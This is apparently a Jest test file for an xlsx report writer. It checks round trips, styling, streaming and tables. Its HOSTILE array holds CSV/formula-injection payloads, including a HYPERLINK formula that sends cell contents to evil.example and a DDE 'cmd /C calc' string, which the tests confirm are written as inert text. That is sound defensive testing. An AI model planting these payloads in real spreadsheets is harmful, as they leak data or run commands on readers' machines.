import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { inflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { XMLParser } from "fast-xml-parser";
import { readTableFromXlsx } from "../../src/cli/xlsxRead";
import { writePlansToWorkbook, writePlansToXlsx, xlsxText } from "../../src/cli/xlsxRender";
import { FUNCTIONS } from "../../src/functions/registry";
import { buildRegisters } from "../../src/reports/registers";
import { PlanValue, SheetPlan } from "../../src/reports/sheetplan";
import { DEFAULT_RULEBOOK } from "../../src/rules/rulebook";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "'quoted",
  "00123",
  "2026-03-05",
  "TRUE",
  "#N/A",
  "x\r\ny",
  "a_x000D_b",
];

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "ltc-xlsx-"));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The entries of a .zip file (just enough for .xlsx: stored or deflated). */
function unzip(file: string): Map<string, string> {
  const buf = readFileSync(file);
  let eocd = buf.length - 22;
  while (eocd >= 0 && buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const out = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28);
    const extraLen = buf.readUInt16LE(p + 30);
    const commentLen = buf.readUInt16LE(p + 32);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.toString("utf8", p + 46, p + 46 + nameLen);
    const dataStart = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(dataStart, dataStart + size);
    out.set(name, (method === 8 ? inflateRawSync(raw) : raw).toString("utf8"));
    p += 46 + nameLen + extraLen + commentLen;
  }
  return out;
}

interface XmlCell {
  "@_r": string;
  "@_t"?: string;
  f?: unknown;
  v?: unknown;
}

/** The <c> elements of a sheet part, by address. */
function sheetCells(files: Map<string, string>, part = "xl/worksheets/sheet1.xml"): Map<string, XmlCell> {
  const parser = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === "row" || name === "c" });
  const doc = parser.parse(files.get(part)!);
  const cells = new Map<string, XmlCell>();
  for (const row of doc.worksheet.sheetData.row ?? []) for (const c of row.c ?? []) cells.set(c["@_r"], c);
  return cells;
}

function reportPlan(n: number, overrides: Partial<SheetPlan> = {}): SheetPlan {
  const rows: PlanValue[][] = [];
  for (let i = 0; i < n; i++) rows.push([`客户${i % 7}`, `C-${i}`, (i * 37) / 100, 46000 + (i % 365), { formula: `=C${i + 3}*2` }, i % 3 === 0 ? "是" : null]);
  return {
    name: "应收账龄",
    ownerKey: "aging:test",
    styles: {
      title: { bold: true, fontSize: 14 },
      header: { bold: true, fill: "#D9E1F2", border: true, hAlign: "center", wrap: true },
      money: { numberFormat: "#,##0.00" },
      date: { numberFormat: "yyyy-mm-dd" },
      input: { input: true },
    },
    blocks: [
      { row: 0, col: 0, values: [["应收账款账龄"]], style: "title" },
      {
        row: 1,
        col: 0,
        values: [["客户", "合同号", "金额", "到期日", "两倍", "备注"], ...rows],
        columnStyles: [undefined, undefined, "money", "date", "money", "input"],
        rowStyles: ["header"],
      },
    ],
    columnWidths: [16, 14, 14, 12, 12, 20],
    freeze: { rows: 2, cols: 1 },
    merges: [{ row: 0, col: 0, rows: 1, cols: 6 }],
    conditionalFormats: [{ kind: "dataBar", area: { row: 2, col: 2, rows: n, cols: 1 }, color: "#5B9BD5" }],
    validations: [{ area: { row: 2, col: 5, rows: n, cols: 1 }, list: ["是", "否"] }],
    charts: [{ kind: "stackedBar", title: "账龄分布", data: { row: 1, col: 0, rows: 3, cols: 3 }, anchor: { row: 0, col: 8 }, width: 480, height: 300 }],
    print: { paper: "A4", orientation: "landscape", repeatRows: { first: 0, last: 1 }, fitToWidth: true, footer: "规则 v1 & 2026-11-30" },
    tabColor: "#2F5597",
    ...overrides,
  };
}

function hostilePlan(): SheetPlan {
  return {
    name: "Hostile",
    ownerKey: "t:hostile",
    styles: {},
    blocks: [{ row: 0, col: 0, values: [["文本", "数"], ...HOSTILE.map((h, i) => [h, i] as PlanValue[]), [{ formula: "=SUM(B2:B4)" }, null]] }],
  };
}

describe("xlsx writer: text is text", () => {
  test.each([false, true])("hostile strings are string cells in the file, formulas are formulas (streaming: %s)", async (streaming) => {
    const file = join(dir, `hostile-${streaming}.xlsx`);
    const result = await writePlansToXlsx(file, [hostilePlan()], { streaming });
    expect(result.streamed).toBe(streaming);
    const cells = sheetCells(unzip(file));
    HOSTILE.forEach((_, i) => {
      const c = cells.get(`A${i + 2}`)!;
      expect({ t: c["@_t"], f: c.f }).toEqual({ t: "s", f: undefined });
    });
    const total = cells.get(`A${HOSTILE.length + 2}`)!;
    expect(total.f).toBe("SUM(B2:B4)");
    // and they read back exactly
    const table = await readTableFromXlsx(file, { streaming });
    expect(table.rows.slice(0, HOSTILE.length).map((r) => r[0])).toEqual(HOSTILE);
  });

  test("CR and literal _xHHHH_ survive the XML", () => {
    expect(xlsxText("\r=1")).toBe("_x000D_=1");
    expect(xlsxText("a_x000D_b")).toBe("a_x005F_x000D_b");
    expect(xlsxText("plain")).toBe("plain");
  });
});

describe("xlsx writer: a report", () => {
  test("round trip: what we write reads back as the same table", async () => {
    const file = join(dir, "report.xlsx");
    const plan = reportPlan(20);
    await writePlansToXlsx(file, [plan]);
    const table = await readTableFromXlsx(file, { sheet: "应收账龄" });
    expect(table.header).toEqual(["客户", "合同号", "金额", "到期日", "两倍", "备注"]);
    expect(table.firstRowNumber).toBe(3);
    expect(table.rows).toHaveLength(20);
    expect(table.rows[4].slice(0, 3)).toEqual(["客户4", "C-4", 1.48]);
    // a date-formatted serial comes back as a Date (UTC midnight)
    expect(table.rows[0][3]).toEqual(new Date(Date.UTC(2025, 11, 9)));
    expect(table.rows[3][5]).toBe("是");
    expect(table.rows[1][5]).toBeNull();
  });

  test("rows with wrapped text that does not fit get the height to show it, in memory and when streaming", async () => {
    const wrapped: SheetPlan = {
      name: "Wrap",
      ownerKey: "test:wrap",
      styles: { wrap: { wrap: true } },
      blocks: [{ row: 0, col: 0, values: [["Sets the project's requirements and helps the PM get money and people", "ok"], ["short", "ok"]], style: "wrap" }],
      columnWidths: [21, 10],
    };
    for (const streaming of [false, true]) {
      const file = join(dir, `wrap-${streaming}.xlsx`);
      await writePlansToXlsx(file, [wrapped], { streaming });
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(file);
      const ws = wb.getWorksheet("Wrap")!;
      expect(ws.getRow(1).height).toBe(60); // 70 characters in 20 usable columns: 4 lines
      expect(ws.getRow(2).height).toBeUndefined();
    }
  });

  test("styles, widths, freeze panes, merges, data bars, validations, print setup, tab colour; charts become a note", async () => {
    const file = join(dir, "layout.xlsx");
    const result = await writePlansToXlsx(file, [reportPlan(5)], { streaming: false });
    expect(result.skippedCharts).toBe(1);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.getWorksheet("应收账龄")!;
    expect(ws.getCell("A2").font).toMatchObject({ bold: true });
    expect(ws.getCell("A2").fill).toMatchObject({ type: "pattern", pattern: "solid", fgColor: { argb: "FFD9E1F2" } });
    expect(ws.getCell("A2").border?.top).toMatchObject({ style: "thin" });
    expect(ws.getCell("A2").alignment).toMatchObject({ horizontal: "center", wrapText: true });
    expect(ws.getCell("C3").numFmt).toBe("#,##0.00");
    expect(ws.getCell("D3").numFmt).toBe("yyyy-mm-dd");
    expect(ws.getCell("E3").formula).toBe("C3*2");
    expect(ws.getCell("F3").fill).toMatchObject({ fgColor: { argb: "FFFFF2CC" } });
    expect(ws.getCell("F3").protection).toMatchObject({ locked: false });
    expect(ws.getColumn(1).width).toBe(16);
    expect(ws.views[0]).toMatchObject({ state: "frozen", xSplit: 1, ySplit: 2 });
    expect(ws.getCell("B1").isMerged).toBe(true);
    expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: "landscape", fitToWidth: 1, fitToHeight: 0, printTitlesRow: "1:2" });
    expect(ws.headerFooter.oddFooter).toBe("&C规则 v1 && 2026-11-30&R&P/&N");
    expect(ws.properties.tabColor).toMatchObject({ argb: "FF2F5597" });
    expect(ws.getCell("F4").dataValidation).toMatchObject({ type: "list", formulae: ['"是,否"'] });
    const files = unzip(file);
    // ExcelJS writes notes but does not read them back: look in the comments part
    expect(files.get("xl/comments1.xml")).toMatch(/<comment ref="I1".*账龄分布.*cannot create charts/s);
    expect(files.get("xl/worksheets/sheet1.xml")).toMatch(/<cfRule type="dataBar"[^>]*>\s*<dataBar>.*FF5B9BD5/s);
  });

  test.each([true, false])("print titles are named for the sheet, also one whose name has an apostrophe (streaming: %s)", async (streaming) => {
    const file = join(dir, `titles-${streaming}.xlsx`);
    await writePlansToXlsx(file, [reportPlan(3, { name: "华东 应收" }), reportPlan(3, { name: "O'Brien", ownerKey: "t:o" })], { streaming });
    const workbookXml = unzip(file).get("xl/workbook.xml")!;
    expect(workbookXml.replace(/&apos;/g, "'")).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="0">'华东 应收'!$1:$2</definedName>`);
    // the apostrophe doubled inside the quoted name (ExcelJS alone wrote it undoubled, a corrupt file)
    expect(workbookXml).toMatch(/<definedName name="_xlnm.Print_Titles" localSheetId="1">(&apos;|')O(&apos;|')(&apos;|')Brien(&apos;|')!\$1:\$2<\/definedName>/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["华东 应收", "O'Brien"]);
    expect(wb.worksheets.map((w) => w.pageSetup.printTitlesRow)).toEqual(["1:2", "1:2"]);
  });

  test("a user's sheet of the same name keeps its name and content", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("应收账龄").getCell("A1").value = "mine";
    const result = writePlansToWorkbook(wb, [reportPlan(2), reportPlan(2)]);
    expect(result.sheets.map((s) => [s.name, s.replaced])).toEqual([
      ["应收账龄 (2)", false],
      ["应收账龄 (3)", false],
    ]);
    expect(wb.getWorksheet("应收账龄")!.getCell("A1").value).toBe("mine");
  });

  test("plan tables become Excel tables that the reader finds by name", async () => {
    const file = join(dir, "tables.xlsx");
    const plan: SheetPlan = {
      name: "商机",
      ownerKey: "demo:opps",
      styles: {},
      blocks: [{ row: 0, col: 0, values: [["项目名称", "金额"], ["=A", 1], ["B", 2]] }],
      tables: [{ name: "Opportunities", area: { row: 0, col: 0, rows: 3, cols: 2 } }],
    };
    await writePlansToXlsx(file, [plan]);
    const t = await readTableFromXlsx(file, { table: "opportunities" });
    expect(t).toMatchObject({ tableName: "Opportunities", header: ["项目名称", "金额"], rows: [["=A", 1], ["B", 2]] });
    expect(sheetCells(unzip(file)).get("A2")).toMatchObject({ "@_t": "s" });
  });

  test("a large report streams to disk and reads back (streaming reader too)", async () => {
    const file = join(dir, "big.xlsx");
    const n = 60_000;
    const result = await writePlansToXlsx(file, [reportPlan(n, { charts: [] })]);
    expect(result.streamed).toBe(true);
    const streamed = await readTableFromXlsx(file, { streaming: true });
    expect(streamed.rows).toHaveLength(n);
    expect(streamed.rows[n - 1].slice(0, 3)).toEqual([`客户${(n - 1) % 7}`, `C-${n - 1}`, ((n - 1) * 37) / 100]);
    expect(streamed.rows[0][3]).toBeInstanceOf(Date);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0];
    expect(ws.getCell("A2").font).toMatchObject({ bold: true });
    expect(ws.getCell(`E${n + 2}`).formula).toBe(`C${n + 2}*2`);
    expect(ws.getCell("B1").isMerged).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 2 });
  }, 60_000);
});

describe("the streaming writer writes what the in-memory one writes", () => {
  /** A sheet as a reader sees it: cells with their values and styles, layout, tables. */
  function sheetModel(ws: ExcelJS.Worksheet) {
    const cells: Record<string, unknown> = {};
    const heights: Record<number, number | undefined> = {};
    ws.eachRow({ includeEmpty: true }, (row, r) => {
      if (row.height !== undefined) heights[r] = row.height;
      row.eachCell({ includeEmpty: true }, (cell) => {
        const style = JSON.parse(JSON.stringify(cell.style ?? {})) as object;
        if (cell.value === null && cell.note === undefined && Object.keys(style).length === 0) return;
        cells[cell.address] = { value: cell.value, note: cell.note, style };
      });
    });
    const columns = (ws.columns ?? []).map((c) => ({ width: c.width, hidden: c.hidden }));
    const model = ws.model as unknown as { merges: string[] };
    return {
      name: ws.name,
      cells,
      heights,
      columns,
      merges: [...model.merges].sort(),
      views: ws.views,
      pageSetup: ws.pageSetup,
      headerFooter: ws.headerFooter,
      tabColor: ws.properties.tabColor,
      conditionalFormats: (ws as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings,
      validations: (ws as unknown as { dataValidations: { model: unknown } }).dataValidations.model,
    };
  }

  /** The table parts' columns with their calculated formulas, and the workbook's defined names and calculation request. */
  function fileParts(file: string) {
    const parts = unzip(file);
    const tables = [...parts.entries()]
      .filter(([name]) => /^xl\/tables\/.*\.xml$/.test(name))
      .map(([, xml]) => ({
        name: /<table\b[^>]*?\bname="([^"]*)"/.exec(xml)![1],
        ref: /<table\b[^>]*?\bref="([^"]*)"/.exec(xml)![1],
        columns: [...xml.matchAll(/<tableColumn\b[^>]*?\bname="([^"]*)"[^>]*?(?:\/>|>(?:<calculatedColumnFormula>(.*?)<\/calculatedColumnFormula>)?<\/tableColumn>)/g)].map((m) => [m[1], m[2] ?? null]),
      }))
      .sort((a, b) => a.name.localeCompare(b.name));
    const book = parts.get("xl/workbook.xml")!;
    const notes = [...parts.entries()]
      .filter(([name]) => /^xl\/comments\d*\.xml$/.test(name))
      .flatMap(([, xml]) => [...xml.matchAll(/<comment\b[^>]*?\bref="([^"]*)"[^>]*>.*?<t\b[^>]*>([^<]*)/gs)].map((m) => `${m[1]} ${m[2]}`))
      .sort();
    return {
      tables,
      notes,
      // ExcelJS writes an apostrophe as &apos;, our writer as it is: the same name either way
      names: [...book.matchAll(/<definedName\b[^>]*>[^<]*<\/definedName>/g)].map((m) => m[0].replace(/&apos;/g, "'")).sort(),
      fullCalcOnLoad: /<calcPr\b[^>]*fullCalcOnLoad="1"/.test(book),
    };
  }

  async function bothWays(plans: SheetPlan[], base: string) {
    const models = [];
    for (const streaming of [false, true]) {
      const file = join(dir, `${base}-${streaming ? "streamed" : "in-memory"}.xlsx`);
      const result = await writePlansToXlsx(file, plans, { streaming });
      expect(result.streamed).toBe(streaming);
      // ExcelJS cannot read back the in-memory writer's tables with calculated columns (it loses
      // their columns): the sheets are read without their table parts, the tables from their XML
      const zip = await JSZip.loadAsync(readFileSync(file));
      for (const part of zip.file(/^xl\/worksheets\/sheet\d+\.xml$/)) zip.file(part.name, (await part.async("string")).replace(/<tableParts\b.*?<\/tableParts>/, ""));
      for (const part of zip.file(/^xl\/tables\//)) zip.remove(part.name);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load((await zip.generateAsync({ type: "arraybuffer" })) as unknown as Parameters<typeof wb.xlsx.load>[0]);
      models.push({ sheets: wb.worksheets.map(sheetModel), parts: fileParts(file), result: { ...result, streamed: undefined } });
    }
    return models;
  }

  test("a sheet of very many blocks (a letter each) streams", async () => {
    const file = join(dir, "many-blocks.xlsx");
    const blocks = Array.from({ length: 150_000 }, (_, i) => ({ row: i * 2, col: 0, values: [[`信函 ${i}`]] as PlanValue[][] }));
    await writePlansToXlsx(file, [{ name: "信函", ownerKey: "t:letters", styles: {}, blocks, merges: [{ row: 1, col: 0, rows: 1, cols: 3 }] }]);
    const table = await readTableFromXlsx(file, { streaming: true });
    expect(table.rows.at(-1)?.[0]).toBe("信函 149999");
    // 150,000 blocks are needed to overflow a spread Math.max (it held at 120,000 on Node 20);
    // writing and reading them back takes ~9 s here and longer on a CI machine.
  }, 120_000);

  test("the registers (tables with calculated columns, sheet-scoped names, validations) and a report read back the same", async () => {
    const registers = buildRegisters(DEFAULT_RULEBOOK, FUNCTIONS, { lang: "zh", asOf: 46356 }).map((r) => r.plan);
    const duplicateHeaders: SheetPlan = {
      name: "重复表头",
      ownerKey: "t:dup",
      styles: { money: { numberFormat: "#,##0.00" }, input: { input: true, border: true } },
      blocks: [
        { row: 2, col: 1, values: [["金额", "金额", null, "x"], [1, 2, 3, "a"], [4, 5, 6, "b"]], columnStyles: ["money", "money"] },
        { row: 7, col: 0, values: [[null, null]], style: "input" },
      ],
      charts: [{ kind: "stackedColumn", title: "空白处", data: { row: 2, col: 1, rows: 3, cols: 2 }, anchor: { row: 9, col: 3 }, width: 400, height: 300 }],
      tables: [{ name: "Dup", area: { row: 2, col: 1, rows: 3, cols: 4 }, columnFormulas: [{ column: 2, formula: { formula: "=[@金额]*2" } }] }],
      pageBreaks: [2],
    };
    const [inMemory, streamed] = await bothWays([...registers, reportPlan(40), duplicateHeaders], "same");
    expect(streamed.sheets).toEqual(inMemory.sheets);
    expect(streamed.parts).toEqual(inMemory.parts);
    expect(streamed.result).toEqual(inMemory.result);
    // what the comparison covers is really there
    expect(streamed.parts.tables.length).toBe(registers.length + 1);
    expect(streamed.parts.tables.some((t) => t.columns.some(([, formula]) => formula !== null))).toBe(true);
    expect(streamed.parts.names.length).toBeGreaterThan(0);
    expect(streamed.parts.fullCalcOnLoad).toBe(true);
    expect(streamed.parts.tables.find((t) => t.name === "Dup")).toEqual({
      name: "Dup",
      ref: "B3:E5",
      columns: [["金额", null], ["金额2", null], ["Column3", "Dup[[#This Row],[金额]]*2"], ["x", null]],
    });
    const dup = streamed.sheets.find((s) => s.name === "重复表头")!;
    expect(dup.cells.A8).toMatchObject({ value: null, style: { fill: { fgColor: { argb: "FFFFF2CC" } }, protection: { locked: false } } });
    expect(streamed.parts.notes).toContainEqual(expect.stringMatching(/^D10 LTC Desk: 图表「空白处」/));
    expect(dup.cells.C4).toMatchObject({ value: 2, style: { numFmt: "#,##0.00" } });
    const report = streamed.sheets.find((s) => s.name === "应收账龄")!;
    expect(report.columns[2].width).toBe(14);
    expect(report.conditionalFormats.length).toBe(1);
  });
});
